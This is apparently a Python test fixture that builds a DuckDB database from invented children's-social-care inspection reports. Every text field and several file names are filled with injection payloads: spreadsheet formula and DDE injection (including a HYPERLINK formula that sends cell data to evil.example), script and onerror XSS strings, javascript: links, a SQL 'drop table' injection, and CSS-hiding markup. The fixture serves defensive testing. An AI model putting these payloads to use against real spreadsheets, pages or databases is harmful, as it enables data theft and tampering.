"""A database built from reports that attack their reader, with the names of everything in it made to attack as well.

The reports are invented and set as PDF files; authorities are real, what is said of them is not.
"""

from __future__ import annotations

import re
from pathlib import Path

import duckdb

from ingest.search_terms import write_search_terms
from ingest.store import DERIVE, execute_file, new_database
from tests.conftest import build_into
from tests.ingest.report_maker import ReportMaker

EVIL = "evil.example"
# One of each thing that a page, a spreadsheet, a chart or a query might take for its own.
PAYLOADS = (
    f'=HYPERLINK("https://{EVIL}/?"&A1,"plans") must be written with children (test).',
    "@SUM(1+1)*cmd|' /C calc'!A0 must be written with children (test).",
    '<script>window.hacked=1</script><img src=x onerror="window.hacked=1"> must not stand in plans (test).',
    f"![plan](https://{EVIL}/x.png) and [plan](javascript:window.hacked=1) must be written with children (test).",
    "$\\frac{1}{2}$ and $$x^2$$ of visits cost $5 to $10 and must be made in time (test).",
    ":red[plans] :material/home: :smile: :blue-badge[plans] must be written with children (test).",
    "'; drop table findings; -- and \" or 1=1 must not stand in plans (test).",
    f"https://{EVIL} and www.{EVIL} and jo@{EVIL} must not stand in plans (test).",
    f'<a href="https://{EVIL}">Plans</a> <b>must</b> be written with {{0}} %s %{{x}} ${{y}} children (test).',
    "</p></main><style>*{display:none}</style> <!-- must not stand in plans --> (test).",
)
NAME = (
    f' <b>$x$</b> <a href="https://{EVIL}">a</a> [l](https://{EVIL}) ![i](https://{EVIL}/i.png) :red[r] '
    "<script>window.hacked=1</script>"
)
ADDRESS = f'https://files.ofsted.gov.uk/x) [l](https://{EVIL}) "onclick=window.hacked=1 <b>'
HOSTILE_FILES = ("<img src=x onerror=window.hacked=1>.pdf", "=1+1.pdf", "[l](javascript:window.hacked=1).txt")

# Column of each table that is not a key: the name that stands there, made to attack.
_FORMULA, _AFTER = "'=' || {0} || $name", "{0} || $name"
_NAMES = {
    "authorities": {"name": _FORMULA},
    "themes": {"label": _AFTER, "belongs": _FORMULA},
    "frameworks": {"label": _FORMULA, "short_label": _AFTER},
    "kinds": {"label": _AFTER, "plural_label": _AFTER},
    "grades": {"label": _AFTER},
    "areas": {"label": _AFTER},
    "inspections": {"title": _FORMULA, "lead_inspector": "'@' || $name", "url": "$address"},
    "findings": {"section": _FORMULA, "summary": "'=' || $name"},
    "finding_themes": {"evidence": "'-' || $name"},
    "known_inspections": {"document": "'+' || $name"},
    "build_changes": {"detail": "'=' || $name"},
}

_OURS = "from duckdb_tables() select table_name where database_name <> 'built' order by table_oid"


def write_hostile_database(folder: Path) -> Path:
    """Builds the database in the folder, through the project's own build, and returns its path."""
    reports = folder / "reports"
    reports.mkdir()
    for authority, year in (("Sutton", 2021), ("Sutton", 2024), ("Merton", 2023)):
        ReportMaker(f"Inspection of {authority}").write(_report(authority, year), reports / f"{authority}{year}.pdf")
    for name in HOSTILE_FILES:
        (reports / name).write_bytes(b"nothing (test)")
    built, _ = build_into(folder / "built.duckdb", reports)
    assert sum(row[1] for row in built.frameworks) == 3
    return _renamed(folder / "built.duckdb", folder / "findings.duckdb")


HELP = "The experiences and progress of children who need help and protection"
LEADERS = "The impact of leaders on social work practice with children and families"


def _report(authority: str, year: int) -> str:
    items = "\n".join(f"* {payload}" for payload in PAYLOADS)
    told = "\n".join(f"{place}. Leaders know that {payload}" for place, payload in enumerate(PAYLOADS, 1))
    return f"""
# {authority}
## Inspection of children's social care services
### Inspection dates: 4 March {year} to 8 March {year}
### Lead inspector: Eve Proof, His Majesty's Inspector
| Judgement | Grade |
| {LEADERS} | Good |
| {HELP} | Good |
| Overall effectiveness | Good |
Services are strong (test).
<page>
## What needs to improve?
{items}
## {HELP}: good
{told}
"""


def _renamed(built: Path, path: Path) -> Path:
    """A copy of the database in which every name attacks; copied, because keys that others refer to cannot change."""
    with new_database(path) as connection:
        connection.execute(f"attach '{built}' as built (read_only)")
        tables = [row[0] for row in connection.execute(_OURS).fetchall()]
        derived = {
            "search_terms",
            "search_vocabulary",
            *re.findall(r"insert into (\w+)", DERIVE.read_text(encoding="utf-8")),
        }
        for table in tables:
            if table not in derived:
                _copy(connection, table, {name: made.format(name) for name, made in _NAMES.get(table, {}).items()})
        connection.execute("detach built")
        execute_file(connection, DERIVE)
        write_search_terms(connection)
    return path


def _copy(connection: duckdb.DuckDBPyConnection, table: str, changed: dict[str, str]) -> None:
    replaced = ", ".join(f"{made} as {name}" for name, made in changed.items())
    what = f"* replace ({replaced})" if replaced else "*"
    given = {"name": NAME, "address": ADDRESS}
    used = {name: value for name, value in given.items() if f"${name}" in replaced}
    connection.execute(f"insert into main.{table} by name from built.main.{table} select {what}", used)
